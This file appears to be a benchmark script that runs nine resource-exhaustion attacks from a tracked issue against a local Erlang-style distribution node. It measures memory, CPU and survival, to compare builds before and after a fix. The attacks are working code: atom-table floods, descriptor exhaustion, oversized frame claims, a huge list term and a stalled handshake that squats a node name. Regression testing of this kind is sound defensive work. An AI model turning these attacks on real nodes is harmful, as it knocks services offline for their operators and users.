#!/usr/bin/env python3
"""The attacks of issue 12 against a running node, with the node's memory and CPU sampled during
the attack and after it. bench/attack.sh runs every case against fresh nodes of one or more builds
(side by side: the build before the fix and the current one); this file is one case, one node.

  bench/attack.py CASE PID PORT EPMD_PORT COOKIE [LOG]    # PORT: distribution (kv: text) port

CASE: atoms_cold atoms_warm names silent kv frame_claim big_list stalled_name wrong_cookie
Prints `metric=CASE_<figure> value=... unit=...` lines (bench/ conventions). Figures:
  rss_during / rss_after (MiB, VmRSS), rss_peak (MiB, VmHWM: the node is fresh for each case),
  cpu_during / cpu_after (% of one core, utime+stime; during: from the start of the attack, over
  a second at least), alive (1 if the node survived), fresh_peer (1 if a new peer completes a
  handshake with the cookie after or during the attack), log_lines (lines the node wrote to LOG
  during the attack), held (silent: connections the attacker holds), real_node_wait_ms and
  first_answer (stalled_name: how long the real node retried until it got in, what it got first).
The handshake is the distribution protocol's version 6 (OTP 23+), with the cookie: an
authenticated peer, as issue 12's cases 1, 2, 6 and 7 need.
"""
import hashlib, os, random, resource, socket, struct, sys, threading, time

case, pid, port, epmd, cookie = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
log_path = sys.argv[6] if len(sys.argv) > 6 else None
tick = os.sysconf("SC_CLK_TCK")
HOST = "127.0.0.1"
# The attacker is not limited to the node's 1,024 descriptors.
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

# Mandatory flags of OTP 26 (and the OTP 25 digest bit), without the atom cache: frames are pass-through.
FLAGS = (0x04 | 0x10 | 0x100 | 0x80 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x20000 | 0x40000 | 0x1000000
         | 0x2000000 | 0x4000000 | (1 << 34) | 0x08 | 0x20 | 0x4000 | 0x400000 | 0x1000)


def alive():
    try:
        st = open(f"/proc/{pid}/stat").read()
        return st.rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def status_kib(key):
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith(key):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def cpu_s():
    try:
        f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        return (int(f[11]) + int(f[12])) / tick
    except OSError:
        return 0.0


def log_count():
    if not log_path:
        return 0
    with open(log_path, "rb") as f:
        return f.read().count(b"\n")


# --- the external term format, as much as the attacks need ---
def atom(text):
    b = text.encode()
    return bytes([119, len(b)]) + b


def tup(*items):
    return bytes([104, len(items)]) + b"".join(items)


def small(n):
    return bytes([97, n])


def pid_term(node, n=1):
    return bytes([88]) + atom(node) + struct.pack(">III", n, 0, 1)


# --- handshake ---
def recv_exact(s, n):
    out = b""
    while len(out) < n:
        chunk = s.recv(n - len(out))
        if not chunk:
            raise ConnectionError("closed")
        out += chunk
    return out


def send_hs(s, body):
    s.sendall(struct.pack(">H", len(body)) + body)


def recv_hs(s):
    (n,) = struct.unpack(">H", recv_exact(s, 2))
    return recv_exact(s, n)


def name_msg(name):
    return b"N" + struct.pack(">QIH", FLAGS, 7, len(name)) + name


def connect(name, the_cookie=cookie, timeout=10):
    """A peer: a handshake with the cookie. Returns the socket, or raises with the node's answer."""
    s = socket.create_connection((HOST, port), timeout=timeout)
    send_hs(s, name_msg(name.encode()))
    status = recv_hs(s)
    if not status.startswith(b"sok"):
        s.close()
        raise ConnectionError(status.decode(errors="replace"))
    ch = recv_hs(s)
    if ch[:1] != b"N":
        raise ConnectionError("no challenge")
    (their,) = struct.unpack(">I", ch[9:13])
    ours = random.getrandbits(32)
    digest = hashlib.md5((the_cookie + str(their)).encode()).digest()
    send_hs(s, b"r" + struct.pack(">I", ours) + digest)
    ack = recv_hs(s)
    if ack[:1] != b"a" or ack[1:] != hashlib.md5((the_cookie + str(ours)).encode()).digest():
        raise ConnectionError("bad ack")
    s.settimeout(None)
    return s


def fresh_peer(name):
    try:
        connect(name, timeout=5).close()
        return 1
    except OSError:
        return 0


def reg_send(me, to, message):
    control = tup(small(6), pid_term(me), atom(""), atom(to))
    return b"p\x83" + control + b"\x83" + message


def frame(body):
    return struct.pack(">I", len(body)) + body


def drain(s):
    """Reads (and drops) what the node sends a peer, ticks included, so its writes never block."""
    def run():
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
    threading.Thread(target=run, daemon=True).start()


# --- sampling ---
peak_mark = [0]


def report(name, value, unit):
    print(f"metric={case}_{name} value={value} unit={unit}", flush=True)


t0, c0, l0 = time.time(), cpu_s(), log_count()
held = []
extra = {}

if case in ("atoms_cold", "atoms_warm"):
    # Case 1 (cold: the node never lost a connection) and case 2 (warm: it has, so its error
    # atoms exist): REG_SENDs to a missing name, each a list of 10,000 distinct new atoms, 1.1 M in all.
    if case == "atoms_warm":
        fresh_peer("warmup@127.0.0.1")
    s = connect("flood@127.0.0.1")
    drain(s)
    me = "flood@127.0.0.1"
    try:
        for m in range(110):
            items = b"".join(atom("x%d_%d" % (m, i)) for i in range(10000))
            s.sendall(frame(reg_send(me, "nobody_here", bytes([108]) + struct.pack(">I", 10000) + items + b"j")))
    except OSError:
        pass
    time.sleep(1)
    extra["fresh_peer"] = fresh_peer("after@127.0.0.1")
    held.append(s)
elif case == "names":  # case 3: 30,000 distinct names, no cookie; each gets a status, then closes
    for i in range(30000):
        try:
            s = socket.create_connection((HOST, port))
            send_hs(s, name_msg(b"stranger%d@127.0.0.1" % i))
            s.recv(64)
            s.close()
        except OSError:
            pass
    extra["fresh_peer"] = fresh_peer("after@127.0.0.1")
elif case == "silent":  # case 4: 1,124 silent connections, half to the distribution port, half to EPMD
    for i in range(1124):
        try:
            held.append(socket.create_connection((HOST, port if i % 2 else epmd), timeout=2))
        except OSError:
            pass
    time.sleep(2)
    extra["held"] = len(held)
    extra["fresh_peer"] = fresh_peer("during@127.0.0.1")
elif case == "kv":  # case 5: one PUT of 60 KB, then 8 clients x 4,000 GETs, never reading
    s = socket.create_connection((HOST, port))
    s.sendall(b"CREATE b\r\nPUT b k " + b"v" * 60000 + b"\r\n")
    s.settimeout(10)
    got = b""
    while got.count(b"OK") < 2:
        got += s.recv(4096)
    s.close()
    def client():
        c = socket.create_connection((HOST, port))
        held.append(c)
        c.setblocking(False)
        data = b"GET b k\r\n" * 4000
        deadline = time.time() + 5
        while data and time.time() < deadline:
            try:
                data = data[c.send(data):]
            except BlockingIOError:
                time.sleep(0.01)
    threads = [threading.Thread(target=client) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    time.sleep(2)
elif case == "frame_claim":  # case 6: five peers each announce 67,108,860 bytes, then send one
    for i in range(5):
        s = connect("claim%d@127.0.0.1" % i)
        drain(s)
        s.sendall(struct.pack(">I", 67108860) + b"p")
        held.append(s)
    time.sleep(2)
elif case == "big_list":  # case 7: one 31 MiB frame holding a list of 32 M []
    s = connect("lists@127.0.0.1")
    drain(s)
    n = 32 * 1000 * 1000
    body = reg_send("lists@127.0.0.1", "nobody_here", bytes([108]) + struct.pack(">I", n) + b"j" * (n + 1))
    try:
        s.sendall(frame(body))
    except OSError:
        pass
    del body
    time.sleep(3)
    held.append(s)
elif case == "stalled_name":  # case 8: send_name for zzz, ok, silence; then the real zzz
    s = socket.create_connection((HOST, port))
    send_hs(s, name_msg(b"zzz@127.0.0.1"))
    recv_hs(s)
    held.append(s)
    start = time.time()
    extra["fresh_peer"] = 0
    while time.time() - start < 10:  # the real zzz retries, as a node would, until it gets in
        try:
            connect("zzz@127.0.0.1", timeout=10).close()
            extra["fresh_peer"] = 1
            break
        except OSError as e:
            extra["first_answer"] = extra.get("first_answer", str(e))
            time.sleep(0.1)
    extra["real_node_wait_ms"] = int(1000 * (time.time() - start))
elif case == "wrong_cookie":  # case 9: 200 handshakes with a wrong cookie
    for i in range(200):
        try:
            connect("guess%d@127.0.0.1" % i, the_cookie="wrong").close()
        except OSError:
            pass
    time.sleep(0.5)
else:
    sys.exit(f"unknown case {case}")

# CPU time counts in clock ticks (10 ms): measure "during" over a second at least.
time.sleep(max(0.0, 1.0 - (time.time() - t0)))
dt = time.time() - t0
report("rss_during", f"{status_kib('VmRSS:') / 1024:.1f}", "MiB")
report("rss_peak", f"{status_kib('VmHWM:') / 1024:.1f}", "MiB")
report("cpu_during", f"{100 * (cpu_s() - c0) / dt:.1f}", "%core")
report("log_lines", log_count() - l0, "lines")
for k, v in extra.items():
    report(k, v, "")
for s in held:
    s.close()
time.sleep(2)
t1, c1 = time.time(), cpu_s()
time.sleep(1)
report("rss_after", f"{status_kib('VmRSS:') / 1024:.1f}", "MiB")
report("cpu_after", f"{100 * (cpu_s() - c1) / (time.time() - t1):.1f}", "%core")
report("alive", 1 if alive() else 0, "")
